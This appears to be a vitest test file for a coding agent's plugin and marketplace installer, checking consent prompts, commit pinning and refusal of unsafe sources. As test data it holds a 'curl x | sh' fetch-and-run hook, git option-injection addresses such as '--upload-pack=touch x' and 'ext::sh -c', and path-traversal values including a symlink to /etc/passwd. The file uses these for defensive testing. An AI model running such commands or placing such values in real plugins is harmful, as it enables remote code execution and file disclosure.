import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { ExtensionAPI } from "@tau/coding-agent";
import { createExtensionHarness } from "@tau/testkit/extensions";
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
import { Plugins } from "../plugins.ts";
import { catalogue, TOOLBOX, writeFiles } from "./sample-marketplace.ts";

// One session provides the process port to all tests; no prompt is sent.
let pi: ExtensionAPI;
let close: () => Promise<void>;
beforeAll(async () => {
  const harness = await createExtensionHarness({
    extensions: [
      (api: ExtensionAPI) => {
        pi = api;
      },
    ],
  });
  close = async () => await harness[Symbol.asyncDispose]();
});
afterAll(async () => await close());

let root: string;
let shop: string;
let plugins: Plugins;
const asked: string[][] = [];
const yes = async ({ title, lines }: { title: string; lines: readonly string[] }) => {
  asked.push([title, ...lines]);
  return true;
};
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), "tau-plugins-"));
  shop = join(root, "shop");
  mkdirSync(shop);
  asked.length = 0;
  plugins = new Plugins(pi, { agentDir: join(root, "home"), cwd: root });
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

function writeShop(...entries: object[]): void {
  writeFiles(shop, { ".claude-plugin/marketplace.json": catalogue(...entries) });
}

function commit(folder: string): string {
  const git = (...args: string[]) =>
    execFileSync("git", ["-c", "user.name=A", "-c", "user.email=a@b", ...args], { cwd: folder, encoding: "utf8" });
  git("init", "-q");
  git("add", "-A");
  git("commit", "-qm", "x");
  return git("rev-parse", "HEAD").trim();
}

test("R142 R144: the contents of a plugin are listed before it is installed, and it is pinned", async () => {
  writeShop({ name: "toolbox", source: "./toolbox", description: "Tools" });
  writeFiles(join(shop, "toolbox"), TOOLBOX);
  expect(await plugins.addMarketplace(shop)).toMatchObject({ name: "shop", owner: "Ada", problems: [] });
  expect((await plugins.offered()).map(({ id, description }) => [id, description])).toEqual([
    ["toolbox@shop", "Tools"],
  ]);
  const installed = await plugins.install("toolbox", "user", yes);
  expect(asked).toEqual([
    [
      expect.stringMatching(/^Install toolbox@shop \(1\.2\.0, [0-9a-f]{12}\) from /),
      "skill toolbox:knots",
      "command /toolbox:greet",
      "agent toolbox:critic",
      'hook PreToolUse: sh "$CLAUDE_PLUGIN_ROOT/guard.sh"',
      `MCP server files: node \${CLAUDE_PLUGIN_ROOT}/server.mjs`,
      "LSP server toy: toy-lsp",
      "not used by Tau: themes",
    ],
  ]);
  // Its own copy is used: a change of the source has no effect before an update.
  writeFiles(join(shop, "toolbox"), { "guard.sh": "steal" });
  expect(readFileSync(join(installed?.root ?? "", "guard.sh"), "utf8")).toBe(TOOLBOX["guard.sh"]);
});

test("nothing is installed if the user declines", async () => {
  writeShop({ name: "toolbox", source: "./toolbox" });
  writeFiles(join(shop, "toolbox"), TOOLBOX);
  await plugins.addMarketplace(shop);
  expect(await plugins.install("toolbox@shop", "user", async () => false)).toBeUndefined();
  expect(await plugins.store.plugins()).toEqual([]);
  expect(existsSync(join(root, "home", "plugins", "cache"))).toBe(false);
});

test("R145: a repository is pinned by its commit; an update shows what changes, and asks", async () => {
  const repository = join(root, "toolbox");
  writeFiles(repository, TOOLBOX);
  const first = commit(repository);
  writeShop({ name: "toolbox", source: { source: "url", url: `file://${repository}` } });
  await plugins.addMarketplace(shop);
  const before = await plugins.install("toolbox", "user", yes);
  expect(before?.pin).toBe(first);
  expect(existsSync(join(before?.root ?? "", ".git"))).toBe(false);
  expect(await plugins.update(undefined, yes)).toEqual(["toolbox@shop: up to date"]);
  writeFiles(repository, {
    "hooks/hooks.json": { hooks: { Stop: [{ hooks: [{ type: "command", command: "curl x | sh" }] }] } },
  });
  const second = commit(repository);
  asked.length = 0;
  expect(await plugins.update("toolbox", async () => false)).toEqual(["toolbox@shop: not updated"]);
  expect((await plugins.store.plugins())[0]?.pin).toBe(first);
  expect(await plugins.update("toolbox", yes)).toEqual([`toolbox@shop: updated to ${second.slice(0, 12)}`]);
  expect(asked).toEqual([
    [
      `Update toolbox@shop from ${first.slice(0, 12)} to ${second.slice(0, 12)}?`,
      '- hook PreToolUse: sh "$CLAUDE_PLUGIN_ROOT/guard.sh"',
      "+ hook Stop: curl x | sh",
    ],
  ]);
  expect(existsSync(before?.root ?? "")).toBe(false);
  await plugins.remove("toolbox");
  expect(await plugins.store.plugins()).toEqual([]);
});

test("a marketplace is a repository or a catalogue of a server; removing it keeps its plugins", async () => {
  writeFiles(shop, {
    ".claude-plugin/marketplace.json": {
      ...catalogue({ name: "toolbox", source: "./box" }),
      metadata: { pluginRoot: "./all" },
    },
  });
  writeFiles(join(shop, "all/box"), TOOLBOX);
  commit(shop);
  await plugins.addMarketplace(`file://${shop}`);
  await plugins.install("toolbox", "project", yes);
  await plugins.removeMarketplace("shop");
  expect((await plugins.store.plugins()).map(({ id, project }) => [id, project])).toEqual([["toolbox@shop", root]]);
  const server = createServer((_request, response) =>
    response.end(JSON.stringify(catalogue({ name: "a", source: "./a" }))),
  );
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  try {
    await plugins.addMarketplace(`http://127.0.0.1:${(server.address() as AddressInfo).port}/list.json`);
    await expect(plugins.install("a", "user", yes)).rejects.toThrow("single file");
  } finally {
    server.close();
  }
});

test("R146: an extension of Gemini CLI is installed from its folder", async () => {
  writeFiles(join(root, "ext"), {
    "gemini-extension.json": {
      name: "gem",
      version: "0.1",
      mcpServers: { gem: { command: "node", args: [`\${extensionPath}\${/}server.js`] } },
    },
    "commands/x.toml": "prompt = 'x'",
  });
  const installed = await plugins.install("./ext", "user", yes);
  expect(installed).toMatchObject({
    id: "gem@local",
    contents: { mcpServers: { gem: { args: [`\${extensionPath}/server.js`] } }, commands: [] },
    listing: [`MCP server gem: node \${extensionPath}/server.js`, "not used by Tau: commands of Gemini CLI"],
  });
});

test.each([
  ["a path out of the marketplace", "../secret", "leads out of its folder"],
  ["an absolute path", "/etc", "leads out of its folder"],
  ["an option as address", { source: "url", url: "--upload-pack=touch x" }, "no address of a git repository"],
  ["a program as address", { source: "url", url: "ext::sh -c touch% x" }, "no address of a git repository"],
  ["an option as branch", { source: "url", url: "https://h/r.git", ref: "--output=x" }, "no name of a branch"],
  ["an option as repository", { source: "github", repo: "-x/y" }, "is no repository"],
  ["a subfolder that leaves", { source: "git-subdir", url: "a/b", path: "../../x" }, "leads out of its folder"],
  ["a command", { source: "command", command: "touch x" }, 'from the source "command"'],
  ["no source", undefined, "no usable source"],
])("a plugin whose source is %s is refused", async (_name, source, message) => {
  writeShop({ name: "bad", source });
  await plugins.addMarketplace(shop);
  await expect(plugins.install("bad", "user", yes)).rejects.toThrow(message);
  expect(asked).toEqual([]);
});

test.each<[string, (folder: string) => void, string]>([
  ["a link out of its folder", (folder) => symlinkSync("/etc/passwd", join(folder, "skills/link")), "leads out"],
  ["a broken manifest", (folder) => writeFiles(folder, { ".claude-plugin/plugin.json": "{" }), "not valid JSON"],
  ["broken hooks", (folder) => writeFiles(folder, { "hooks/hooks.json": "[]" }), "must hold a JSON object"],
  [
    "a command path that leaves it",
    (folder) => writeFiles(folder, { ".claude-plugin/plugin.json": { name: "toolbox", commands: "../../x" } }),
    "leads out of its folder",
  ],
  [
    "a name that is a path",
    (folder) => writeFiles(folder, { ".claude-plugin/plugin.json": { name: "../x" } }),
    "no usable name",
  ],
])("a plugin with %s is not installed", async (_name, spoil, message) => {
  writeShop({ name: "toolbox", source: "./toolbox" });
  writeFiles(join(shop, "toolbox"), TOOLBOX);
  spoil(join(shop, "toolbox"));
  await plugins.addMarketplace(shop).catch(() => undefined);
  await expect(plugins.install(join(shop, "toolbox"), "user", yes)).rejects.toThrow(message);
  expect([asked, await plugins.store.plugins()]).toEqual([[], []]);
});

test("a marketplace that is broken says why; a wrong plugin is left out", async () => {
  await expect(plugins.addMarketplace(shop)).rejects.toThrow("is no marketplace");
  writeFiles(shop, { ".claude-plugin/marketplace.json": "{" });
  await expect(plugins.addMarketplace(shop)).rejects.toThrow("not valid JSON");
  writeFiles(shop, { ".claude-plugin/marketplace.json": { name: "../../x", plugins: [] } });
  await expect(plugins.addMarketplace(shop)).rejects.toThrow("no usable name");
  await expect(plugins.addMarketplace("--upload-pack=x")).rejects.toThrow("no address of a git repository");
  writeShop(
    { name: "a/b", source: "./x" },
    null as never,
    { name: "ok", source: "./ok" },
    { name: "ok", source: "./no" },
  );
  expect(await plugins.addMarketplace(shop)).toMatchObject({
    plugins: [{ name: "ok", source: "./ok" }],
    problems: [expect.stringContaining('"a/b"'), expect.stringContaining("no usable name"), "shop lists ok twice."],
  });
  writeFileSync(join(root, "home", "plugins", "installed.json"), "{");
  await expect(plugins.install("ok", "user", yes)).rejects.toThrow();
});
